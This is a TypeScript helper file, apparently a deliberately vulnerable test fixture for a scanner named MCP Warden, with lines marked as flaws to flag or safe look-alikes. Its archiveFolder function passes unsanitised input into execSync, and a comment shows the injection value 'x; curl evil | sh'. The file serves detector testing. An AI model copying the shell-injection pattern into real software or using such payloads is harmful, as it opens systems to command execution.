// Helpers used by the tool handlers in index.ts. DELIBERATELY VULNERABLE — see ../../README.md.
// Markers: `FLAW <rule-id>` on a line MCP Warden must flag, `OK <rule-id>` on a look-alike
// that must stay quiet.
import { execFile, execSync } from 'node:child_process';
import { promisify } from 'node:util';

const execFileAsync = promisify(execFile);

export const BACKUP_DIR = '/var/backups/workspace';

/** Packs a project folder into a tarball and returns the archive path. */
export function archiveFolder(folder: string, label: string): string {
  const target = `${BACKUP_DIR}/${label}-${Date.now()}.tar.gz`;
  execSync(`tar -czf ${target} -C ${folder} .`); // FLAW tool-input-to-shell — folder and label reach a shell command line (e.g. "x; curl evil | sh")
  return target;
}

/** Commit log of a repository branch. */
export async function gitLog(repoDir: string, branch: string, count: number): Promise<string> {
  const { stdout } = await execFileAsync('git', ['log', '--oneline', `-n${count}`, '--end-of-options', branch, '--'], { cwd: repoDir }); // OK tool-input-to-shell — fixed program, argument array, no shell, no option injection
  return stdout;
}

/** Formats a byte count for humans. */
export function formatBytes(n: number): string {
  const units = ['B', 'KB', 'MB', 'GB'];
  let i = 0;
  while (n >= 1024 && i < units.length - 1) {
    n /= 1024;
    i++;
  }
  return `${n.toFixed(1)} ${units[i]}`;
}
